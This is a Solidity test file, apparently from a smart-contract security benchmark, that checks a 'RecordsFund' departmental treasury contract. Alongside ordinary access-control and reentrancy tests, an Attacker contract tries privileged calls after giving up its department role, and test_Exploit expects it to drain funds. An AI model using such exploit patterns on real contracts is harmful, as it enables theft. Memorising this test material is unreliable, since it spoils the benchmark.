// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "./RecordsFund.sol";

// assay-canary-9cb7707c-59ae-40f1-8b6a-79a885af50a6

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "!minter");
        _mint(to, amount);
    }
}

contract Market is IMarket {
    Coin private coin;
    mapping(address => uint256) public override suppliedOf;

    constructor(Coin _coin) public {
        coin = _coin;
    }

    function supply(uint256 amount) external override {
        suppliedOf[msg.sender] += amount;
        coin.transferFrom(msg.sender, address(this), amount);
    }

    function redeem(uint256 amount) external override {
        require(suppliedOf[msg.sender] >= amount, "!supplied");
        suppliedOf[msg.sender] -= amount;
        coin.transfer(msg.sender, amount);
    }
}

// Token, strategy, governance, keeper and head of a department in one, which comes back when it is asked to move tokens.
contract Hook {
    RecordsFund public fund = new RecordsFund(IERC20(address(this)), address(0));
    uint256 public refusals;
    bool private armed;

    constructor() public {
        fund.addDepartment(address(this), 10);
        fund.setKeeper(address(this), true);
    }

    function propose() external {
        fund.proposeStrategy(IStrategy(address(this)));
    }

    function accept() external {
        fund.acceptStrategy();
    }

    function run() external {
        armed = true;
        fund.give(1);
    }

    function want() external view returns (address) {
        return address(this);
    }

    function balanceOf(address) external pure returns (uint256) {
        return 10;
    }

    function invest() external {}

    function pull(uint256) external {}

    function leave() external {}

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external returns (bool) {
        if (armed) {
            armed = false;
            attempt(abi.encodeWithSelector(fund.give.selector, 1));
            attempt(abi.encodeWithSelector(fund.draw.selector, 0, address(1), 1));
            attempt(abi.encodeWithSelector(fund.earn.selector));
            attempt(abi.encodeWithSelector(fund.recall.selector, 1));
            attempt(abi.encodeWithSelector(fund.acceptStrategy.selector));
        }
        return true;
    }

    function attempt(bytes memory data) private {
        (bool done, bytes memory reason) = address(fund).call(data);
        bytes memory locked = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
        if (!done && keccak256(reason) == keccak256(locked)) refusals++;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CLERK = address(0xC1);
    address private constant GUARD = address(0x6A);
    address private constant KEEPER = address(0xEE);
    uint256 private constant START = 1600000000;

    Coin public coin;
    Market private market;
    RecordsFund private fund;
    MarketStrategy private first;
    Attacker private mallory;

    // Mallory was the head of the second department and its own clerk, and has handed it over to Ben.
    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        market = new Market(coin);
        fund = new RecordsFund(coin, GUARD);
        first = new MarketStrategy(address(fund), coin, market);
        fund.proposeStrategy(first);
        vm.warp(START + 2 days);
        fund.acceptStrategy();
        fund.setKeeper(KEEPER, true);
        fund.setReserve(5000 ether);
        coin.mint(address(this), 50000 ether);
        coin.approve(address(fund), 50000 ether);
        fund.give(40000 ether);
        fund.earn();
        mallory = new Attacker(fund, first, coin);
        fund.addDepartment(ANA, 2000 ether);
        fund.addDepartment(address(mallory), 3000 ether);
        mallory.start(BEN);
        vm.prank(BEN);
        fund.acceptHead(1);
    }

    function test_Regular() public {
        require(fund.total() == 40000 ether && first.total() == 35000 ether, "invested");
        vm.startPrank(ANA);
        fund.draw(0, ANA, 500 ether);
        fund.setClerk(0, CLERK);
        vm.stopPrank();
        vm.prank(CLERK);
        fund.draw(0, CLERK, 1500 ether);
        require(coin.balanceOf(ANA) == 500 ether && coin.balanceOf(CLERK) == 1500 ether, "drawn");
        vm.prank(BEN);
        fund.draw(1, BEN, 3000 ether);
        vm.warp(START + 40 days);
        vm.prank(CLERK);
        fund.draw(0, CLERK, 2000 ether);
        require(coin.balanceOf(address(fund)) == 0 && first.total() == 33000 ether, "out of the strategy");
        fund.setBudget(0, 2500 ether);
        vm.prank(CLERK);
        fund.draw(0, CLERK, 500 ether);
        vm.prank(ANA);
        fund.offerHead(0, CLERK);
        vm.prank(CLERK);
        fund.acceptHead(0);
        vm.prank(CLERK);
        fund.offerHead(0, ANA);
        fund.replaceHead(0, BEN);
        (address head, address pending, , , uint256 budget, , uint256 drawn) = fund.departments(0);
        require(head == BEN && pending == address(0) && budget == 2500 ether && drawn == 2500 ether, "replaced");

        vm.prank(GUARD);
        fund.freeze(0);
        fund.unfreeze(0);
        fund.freeze(1);
        vm.prank(KEEPER);
        fund.recall(10000 ether);
        require(coin.balanceOf(address(fund)) == 10000 ether, "recalled");
        MarketStrategy second = new MarketStrategy(address(fund), coin, market);
        fund.proposeStrategy(second);
        vm.prank(GUARD);
        fund.cancelStrategy();
        fund.proposeStrategy(second);
        fund.cancelStrategy();
        fund.proposeStrategy(second);
        vm.warp(START + 42 days);
        fund.acceptStrategy();
        require(first.total() == 0 && coin.balanceOf(address(fund)) == 32500 ether, "left");
        fund.earn();
        require(second.total() == 27500 ether && fund.total() == 32500 ether, "to the second");
        vm.prank(KEEPER);
        fund.recall(500 ether);
        Coin other = new Coin();
        other.mint(address(first), 5);
        other.mint(address(second), 6);
        first.sweep(other);
        second.sweep(other);
        require(other.balanceOf(address(this)) == 11, "swept");
        fund.proposeStrategy(first);
        vm.warp(START + 44 days);
        fund.acceptStrategy();
        require(second.total() == 0, "left again");

        fund.setGuardian(ANA);
        fund.offerGovernance(ANA);
        vm.prank(ANA);
        fund.acceptGovernance();
        require(fund.governance() == ANA && fund.pendingGovernance() == address(0), "governed by Ana");
    }

    function test_RefusesDraws() public {
        vm.startPrank(ANA);
        vm.expectRevert("!drawer");
        fund.draw(1, ANA, 1);
        vm.expectRevert("!budget");
        fund.draw(0, ANA, 2000 ether + 1);
        fund.draw(0, ANA, 1999 ether);
        vm.expectRevert("!budget");
        fund.draw(0, ANA, 1 ether + 1);
        vm.stopPrank();
        vm.prank(GUARD);
        fund.freeze(0);
        vm.prank(ANA);
        vm.expectRevert("!frozen");
        fund.draw(0, ANA, 1);
    }

    function test_RefusesWithoutStrategy() public {
        RecordsFund second = new RecordsFund(coin, GUARD);
        second.addDepartment(ANA, 10);
        vm.prank(ANA);
        vm.expectRevert("!idle");
        second.draw(0, ANA, 1);
        coin.mint(address(second), 1);
        vm.expectRevert("!earn");
        second.earn();
    }

    function test_RefusesEarning() public {
        vm.expectRevert("!earn");
        fund.earn();
        coin.mint(address(fund), 1);
        fund.earn();
        vm.expectRevert("!keeper");
        fund.recall(1);
    }

    function test_RefusesHeads() public {
        vm.startPrank(BEN);
        vm.expectRevert("!head");
        fund.offerHead(0, BEN);
        vm.expectRevert("!head");
        fund.setClerk(0, BEN);
        vm.expectRevert("!pending");
        fund.acceptHead(0);
        vm.stopPrank();
        vm.expectRevert("!zero");
        fund.addDepartment(address(0), 1);
        vm.expectRevert("!zero");
        fund.replaceHead(0, address(0));
        vm.expectRevert("!department");
        fund.replaceHead(2, ANA);
        vm.expectRevert("!department");
        fund.setBudget(2, 1);
        vm.expectRevert("!department");
        fund.freeze(2);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(GUARD);
        vm.expectRevert("!governance");
        fund.addDepartment(GUARD, 1);
        vm.expectRevert("!governance");
        fund.setBudget(0, 1);
        vm.expectRevert("!governance");
        fund.replaceHead(0, GUARD);
        vm.expectRevert("!governance");
        fund.unfreeze(0);
        vm.expectRevert("!governance");
        fund.setKeeper(GUARD, true);
        vm.expectRevert("!governance");
        fund.setReserve(0);
        vm.expectRevert("!governance");
        fund.proposeStrategy(first);
        vm.expectRevert("!governance");
        fund.offerGovernance(GUARD);
        vm.expectRevert("!governance");
        fund.setGuardian(BEN);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("!guardian");
        fund.freeze(1);
        vm.expectRevert("!guardian");
        fund.cancelStrategy();
        vm.expectRevert("!pending");
        fund.acceptGovernance();
        vm.stopPrank();
    }

    function test_RefusesStrategies() public {
        vm.expectRevert("!proposed");
        fund.acceptStrategy();
        MarketStrategy other = new MarketStrategy(address(this), coin, market);
        vm.expectRevert("!strategy");
        fund.proposeStrategy(other);
        other = new MarketStrategy(address(fund), new Coin(), market);
        vm.expectRevert("!strategy");
        fund.proposeStrategy(other);
        other = new MarketStrategy(address(fund), coin, market);
        fund.proposeStrategy(other);
        vm.warp(START + 4 days - 1);
        vm.expectRevert("!delay");
        fund.acceptStrategy();
        vm.warp(START + 4 days);
        vm.prank(GUARD);
        vm.expectRevert("!governance");
        fund.acceptStrategy();
    }

    function test_RefusesStrategyCalls() public {
        vm.expectRevert("!fund");
        first.invest();
        vm.expectRevert("!fund");
        first.pull(1);
        vm.expectRevert("!fund");
        first.leave();
        vm.expectRevert("!token");
        first.sweep(coin);
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook();
        hook.propose();
        vm.warp(START + 4 days);
        hook.accept();
        hook.propose();
        vm.warp(START + 6 days);
        hook.run();
        require(hook.refusals() == 5, "locked");
    }

    function exploit() public {
        mallory.run();
        vm.warp(block.timestamp + 31 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 3000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    RecordsFund private fund;
    MarketStrategy private strategy;
    IERC20 private coin;

    constructor(RecordsFund _fund, MarketStrategy _strategy, IERC20 _coin) public {
        fund = _fund;
        strategy = _strategy;
        coin = _coin;
    }

    function start(address next) external {
        fund.setClerk(1, address(this));
        fund.offerHead(1, next);
    }

    function attempt(address to, bytes memory data) private {
        (bool done, ) = to.call(data);
        done;
    }

    function run() external {
        // as the head and the clerk that it was, and of departments that do not exist
        for (uint256 id = 0; id < 3; id++) {
            attempt(address(fund), abi.encodeWithSelector(fund.acceptHead.selector, id));
            attempt(address(fund), abi.encodeWithSelector(fund.offerHead.selector, id, address(this)));
            attempt(address(fund), abi.encodeWithSelector(fund.setClerk.selector, id, address(this)));
            attempt(address(fund), abi.encodeWithSelector(fund.replaceHead.selector, id, address(this)));
            attempt(address(fund), abi.encodeWithSelector(fund.draw.selector, id, address(this), 2000 ether));
            attempt(address(fund), abi.encodeWithSelector(fund.draw.selector, id, address(this), 1000 ether));
        }
        // as governance, guardian and keeper
        attempt(address(fund), abi.encodeWithSelector(fund.acceptGovernance.selector));
        attempt(address(fund), abi.encodeWithSelector(fund.offerGovernance.selector, address(this)));
        attempt(address(fund), abi.encodeWithSelector(fund.addDepartment.selector, address(this), 5000 ether));
        attempt(address(fund), abi.encodeWithSelector(fund.setKeeper.selector, address(this), true));
        attempt(address(fund), abi.encodeWithSelector(fund.proposeStrategy.selector, address(this)));
        attempt(address(fund), abi.encodeWithSelector(fund.acceptStrategy.selector));
        attempt(address(fund), abi.encodeWithSelector(fund.recall.selector, 1000 ether));
        attempt(address(fund), abi.encodeWithSelector(fund.earn.selector));
        // as the fund
        attempt(address(strategy), abi.encodeWithSelector(strategy.pull.selector, 1000 ether));
        attempt(address(strategy), abi.encodeWithSelector(strategy.leave.selector));
        attempt(address(strategy), abi.encodeWithSelector(strategy.sweep.selector, coin));
    }
}
